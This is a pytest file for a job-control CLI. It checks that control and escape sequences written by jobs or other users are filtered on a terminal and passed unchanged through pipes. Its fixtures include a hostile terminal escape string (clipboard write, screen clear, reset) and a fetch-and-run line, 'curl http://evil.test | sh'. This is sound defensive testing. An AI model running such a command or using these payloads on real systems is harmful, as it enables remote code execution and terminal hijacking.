"""What jobs, images and other users wrote, on a real terminal: no command steers it; a pipe gets the bytes as they are."""

import json
import os
import pty
import re
import subprocess
import sys
import threading
from typing import Any

import pytest

ALLOWED = re.compile(r"(?:[^\x00-\x1f\x7f-\x9f]|[\t\n\r]|\x1b\[[0-9;:]*m)*")
HOSTILE = "\x1b]0;title\x07\x1b]52;c;ZWNobw==\x1b\\\x1b[2J\x1b[31mred\x9b1A\x9d0;x\x9c\x1bc\b\b\a\x7fend"
SAID = "\x1b[31mredend\x1b[0m"


def on_a_terminal(jobctl: Any, *arguments: str) -> str:
    main, other = pty.openpty()
    environment = {**jobctl.env, "TERM": "xterm-256color"}
    command = subprocess.Popen(
        [sys.executable, "-m", "jobctl", *arguments],
        env=environment, cwd=jobctl.home, stdin=other, stdout=other, stderr=other,
    )  # fmt: skip
    os.close(other)
    found = b""
    watch = threading.Timer(20, command.kill)
    watch.start()
    try:
        while block := os.read(main, 1 << 16):
            found += block
    except OSError:
        pass  # the other end is closed: the program has ended
    finally:
        watch.cancel()
        os.close(main)
        command.wait(20)
    return found.decode()


def hostile_job(daemon: Any) -> Any:
    job = daemon.make("web")
    job.spec["image"] = HOSTILE
    job.say(HOSTILE)
    job.say(HOSTILE, "stderr")
    job.error = HOSTILE + "\n  - curl http://evil.test | sh"
    job.extra = {"labels": {"a": HOSTILE}, "waitingFor": HOSTILE, "limits": {}, "cancelledBy": None}
    job.end(3, HOSTILE)
    return job


@pytest.mark.parametrize(
    "arguments",
    [
        ("logs", "web"),
        ("logs", "-f", "-t", "web"),
        ("logs", "--json", "web"),
        ("wait", "web"),
        ("wait", "--json", "web"),
        ("explain", "web"),
        ("show", "web"),
        ("show", "--json", "web"),
        ("show", "-o", "yaml", "web"),
        ("ls", "-a"),
        ("ls", "-a", "--json"),
        ("cancel", HOSTILE),
        ("run", "--in", HOSTILE, "busybox"),
        ("logs", HOSTILE),
    ],
)
def test_no_command_prints_control_sequences_of_others(
    daemon: Any, jobctl: Any, arguments: tuple[str, ...]
) -> None:
    hostile_job(daemon)
    shown = on_a_terminal(jobctl, *arguments)
    assert "end" in shown
    assert ALLOWED.fullmatch(shown), repr(shown)


def test_the_log_of_a_run_is_filtered_too(daemon: Any, jobctl: Any) -> None:
    def act(job: Any) -> None:
        job.say(HOSTILE)
        job.error = HOSTILE
        job.end(None, "start-failed")

    daemon.on_submit = act
    shown = on_a_terminal(jobctl, "run", "busybox")
    assert ALLOWED.fullmatch(shown), repr(shown)
    assert SAID + "\r\n" in shown


def test_the_events_are_filtered_too(daemon: Any, jobctl: Any) -> None:
    for arguments in (("events",), ("events", "--json"), ("deliveries", "web")):
        daemon.make("web")
        assert ALLOWED.fullmatch(on_a_terminal(jobctl, *arguments))


def test_raw_passes_control_sequences_to_a_terminal(daemon: Any, jobctl: Any) -> None:
    hostile_job(daemon)
    assert f"{HOSTILE}\r\n{HOSTILE}\r\n" in on_a_terminal(jobctl, "logs", "--raw", "web")
    daemon.on_submit = lambda job: (job.say(HOSTILE), job.end(0))
    assert on_a_terminal(jobctl, "run", "--raw", "busybox") == HOSTILE + "\r\n"


def test_a_pipe_is_never_filtered(daemon: Any, jobctl: Any) -> None:
    hostile_job(daemon)
    shown = jobctl("logs", "web")
    assert shown.stdout.decode() == shown.stderr.decode() == HOSTILE + "\n"


def test_json_is_the_same_value_without_a_control_character_in_a_pipe(daemon: Any, jobctl: Any) -> None:
    hostile_job(daemon)
    for command in ("logs", "show", "wait"):
        text = jobctl(command, "--json", "web").stdout.decode()
        assert not re.search("[\x7f-\x9f]", text)
        tree = json.loads(text if command == "show" else text.splitlines()[0])
        assert HOSTILE in (tree["jobs"][0] if command == "show" else tree).values()


def test_a_terminal_gets_no_tar_and_files_without_control_sequences(daemon: Any, jobctl: Any) -> None:
    daemon.make("web").files.update({"a": HOSTILE.encode(), "d/b": b"b"})
    shown = on_a_terminal(jobctl, "cp", "web:d", "-")
    assert "terminal" in shown
    assert ALLOWED.fullmatch(shown)
    assert ALLOWED.fullmatch(on_a_terminal(jobctl, "cp", "web:a", "-"))
